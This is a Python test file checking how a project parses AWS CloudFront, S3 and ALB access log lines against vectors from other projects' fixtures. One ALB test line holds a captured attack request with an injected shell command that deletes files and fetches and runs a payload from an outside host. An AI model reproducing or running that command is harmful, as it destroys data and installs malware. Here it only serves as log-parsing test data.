"""Parse results other projects assert for AWS logs (CloudFront, S3, ALB), against ours: each line written here
as a test vector (short lines from the peer's fixture, cited by repository and path), the fields we must give."""

from __future__ import annotations

from datetime import datetime

import pytest

from exposure.formats.alb import ALB
from exposure.formats.cloudfront import CLOUDFRONT
from exposure.formats.s3 import S3

from .parse_lines import parse_lines
from .test_cloudfront import HEADER, cf_line

CHROME = ("Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like%20Gecko)"
          "%20Chrome/100.0.4896.127%20Safari/537.36")


def _last(fmt: object, lines: list[str]) -> dict[str, object]:
    return parse_lines(fmt, lines)[-1]


# elastic/integrations packages/aws/data_stream/cloudfront_logs/_dev/test/pipeline/test-cloudfront.log(-expected.json):
# a CloudFront line whose values are separated by spaces, not tabs (as a copy or a CloudWatch-delivered log with a
# space delimiter has it); the peer reads it: source 81.2.69.143, POST /getApplications?source=global, 200, 10157.
# CloudFront percent-encodes every space inside a value, so a line with exactly one value per field splits
# unambiguously; a line where a space split gives another count is rejected, never read shifted.
SPACED = cf_line(c_ip="81.2.69.143", cs_method="POST", cs_uri_stem="/getApplications", sc_bytes="10157",
                 cs_uri_query="source=global", **{"cs(user-agent)": CHROME, "cs(referer)": "https://test.com/global",
                                                  "x-host-header": "test.com"}).replace("\t", " ")


def test_cloudfront_space_separated_line() -> None:
    row = _last(CLOUDFRONT, [*HEADER, SPACED])
    assert row["verdict"] == "request", row["reason"]
    assert {k: row[k] for k in ("client", "ts_utc", "method", "path", "query", "status", "bytes", "vhost", "referer",
                                "user_agent", "object_size")} == {
        "client": "81.2.69.143", "ts_utc": datetime(2020, 6, 8, 12, 12, 18), "method": "POST",
        "path": "/getApplications", "query": "source=global", "status": 200, "bytes": 10157, "vhost": "test.com",
        "referer": "https://test.com/global",
        "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                      "Chrome/100.0.4896.127 Safari/537.36",
        "object_size": 18412}


def test_cloudfront_space_separated_line_with_a_space_in_a_value_is_rejected() -> None:
    # the peer's x-forwarded-for `81.2.69.142, 216.160.83.56` (a literal space, tab-separated line): with spaces
    # as separators the values no longer line up with #Fields
    line = cf_line(x_forwarded_for="81.2.69.142, 216.160.83.56").replace("\t", " ")
    row = _last(CLOUDFRONT, [*HEADER, line])
    assert (row["verdict"], row["reason"]) == ("rejected", "1 value under 33 fields")  # split on tabs: none


def test_cloudfront_tab_line_keeps_a_space_inside_a_value() -> None:
    row = _last(CLOUDFRONT, [*HEADER, cf_line(x_forwarded_for="81.2.69.142, 216.160.83.56")])
    assert (row["verdict"], row["client"], row["xff"]) == ("request", "198.51.100.7", "81.2.69.142, 216.160.83.56")


# elastic/integrations packages/aws/data_stream/s3access/_dev/test/pipeline/test-s3-server-access.log: S3 writes an
# unquoted `-` for the Request-URI, referer and agent of a batch or lifecycle operation, `-` for a status it
# has none for, and `-` for the remote IP of AWS's own services.
S3_OWNER = "36c1f05b76016b78528454e6e0c60e2b7ff7aa20c0a5e4c748276e5b0a2debd2"
S3_TAIL = "SigV4 ECDHE-RSA-AES128-SHA AuthHeader s3.eu-central-1.amazonaws.com TLSv1.2"


@pytest.mark.parametrize(("line", "expected"), [
    pytest.param(f"{S3_OWNER} test-bucket [10/Sep/2019:15:11:07 +0000] 89.160.20.156 arn:aws:iam::123456:user/t "
                 f"8CD7A4A71E2E5C9E BATCH.DELETE.OBJECT jolokia-war-1.5.0.war - 204 - - 344017 - - - - - HostId= "
                 f"{S3_TAIL}",
                 {"client": "89.160.20.156", "method": "BATCH.DELETE.OBJECT", "path": "/jolokia-war-1.5.0.war",
                  "protocol": None, "status": 204, "bytes": None, "object_size": 344017, "referer": None,
                  "user_agent": None, "ts_utc": datetime(2019, 9, 10, 15, 11, 7)}, id="batch-delete-unquoted-dashes"),
    pytest.param(f"{S3_OWNER} flow-log-test [14/Jul/2021:18:57:31 +0000] - svc:delivery.logs.amazonaws.com "
                 'MVGXZXEVN3IG9S24 REST.PUT.OBJECT AWSLogs/x.log.gz "PUT /AWSLogs/x.log.gz HTTP/1.1" - - - 773 103 13 '
                 f'"-" "-" - HostId= {S3_TAIL} arn:aws:s3:us-west-1:123456789012:accesspoint/example-AP -',
                 {"client": None, "method": "PUT", "path": "/AWSLogs/x.log.gz", "status": None, "bytes": None,
                  "object_size": 773, "userid": "svc:delivery.logs.amazonaws.com"}, id="status-dash-access-point"),
    pytest.param(f"{S3_OWNER} flow-log-test [25/Mar/2025:19:28:02 +0000] - AmazonS3 366DB3C4B325AB11 "
                 'S3.EXPIRE.OBJECT 0/chum/x.sst "-" - - - 317 - - "-" "-" qsEq9bDa2Vy DMlPb9al4Cv - - - - - - -',
                 {"client": None, "method": "S3.EXPIRE.OBJECT", "path": "/0/chum/x.sst", "status": None,
                  "object_size": 317, "vhost": "flow-log-test"}, id="lifecycle-expire"),
])
def test_s3_lines(line: str, expected: dict[str, object]) -> None:
    row = _last(S3, [line])
    assert row["verdict"] == "request", row["reason"]
    assert {k: row[k] for k in expected} == expected


# elastic/integrations packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log: `-1` processing times
# with no target (a redirect), a request target with a space in it (ALB's `SpaceInUri` classification), and the
# request ALB writes for a connection that sent no parsable request (`"- http://host:80-/ "`).
ALB_ID = "app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e"


@pytest.mark.parametrize(("line", "expected"), [
    pytest.param(f"http 2022-05-12T06:41:29.051646Z {ALB_ID} 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "
                 '"GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" '
                 '"Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z '
                 '"redirect" "https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri"',
                 {"client": "67.43.156.20", "ts_utc": datetime(2022, 5, 12, 6, 41, 29, 51646), "status": 301,
                  "bytes": 390, "method": "GET", "vhost": "127.0.0.1", "path": "/shell",
                  "query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws", "protocol": "HTTP/1.1",
                  "user_agent": "Hello, world", "duration_ms": None}, id="no-target-space-in-uri"),
    pytest.param("http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - "
                 '-1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - '
                 '2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
                 {"client": "127.0.0.1", "status": 200, "bytes": 272, "method": None, "protocol": None,
                  "user_agent": None}, id="no-request-line"),
])
def test_alb_lines(line: str, expected: dict[str, object]) -> None:
    row = _last(ALB, [line])
    assert row["verdict"] == "request", row["reason"]
    assert {k: row[k] for k in expected} == expected


def test_alb_quote_escapes() -> None:
    # vectordotdev/vrl src/stdlib/parse_aws_alb_log.rs reads `\"` inside a quoted field as `"`; ALB writes a quote
    # as `\x22` (decoded, exposure/formats/alb.py), so a `\"` is content and stays as written
    line = ("http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 "
            '0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/a.xlsx HTTP/1.1" "curl \\x22q\\x22 \\"r\\"" '
            '- - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/t/73e2d6bc24d8a067 "Root=1-5" "-" "-" '
            '0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_x')
    row = _last(ALB, [line])
    assert (row["verdict"], row["path"], row["user_agent"]) == ("request", "/a.xlsx", 'curl "q" \\"r\\"')


# log2timeline/plaso test_data/aws_elb_access.log (16 events: plaso reads every line) and elastic/integrations
# aws elb_logs test-alb.log mix with ALB lines the Network Load Balancer's TLS lines and ALB connection-log lines:
# connections, not HTTP requests (no method, path or status). They are skipped with what they are, like the
# classic ELB's TCP lines, never rejected as damage nor read as requests.
NLB_TLS = ("tls 2.0 2022-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd "
           "72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a10 "
           "- ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com "
           "h2 h2 \"h2\",\"http/1.1\" 2022-04-01T08:51:20")
ALB_CONNECTION = ('2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 '
                  '"CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" '
                  'NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success')


def test_alb_file_connection_lines_are_skipped() -> None:
    http = ("https 2020-01-11T16:55:20.356586Z app/production-web/jf29fj2198ejf922 192.168.1.10:44325 "
            '192.168.1.123:32869 0.013 0.164 0.000 200 200 391 107999 "GET https://www.domain.name:443/x.xlsx HTTP/1.1" '
            '"UA" - - - "Root=1-5" "-" "-" 0 2020-01-11T16:55:20.180000Z "forward" "-" "-" "-" "-" "-" "-"')
    rows = parse_lines(ALB, [http, NLB_TLS, ALB_CONNECTION])
    assert [(r["verdict"], r["reason"]) for r in rows] == [
        ("request", None), ("skipped", "tls connection (network load balancer)"),
        ("skipped", "connection log (client TLS handshake)")]
    assert (rows[0]["client"], rows[0]["bytes"], rows[0]["path"]) == ("192.168.1.10", 107999, "/x.xlsx")
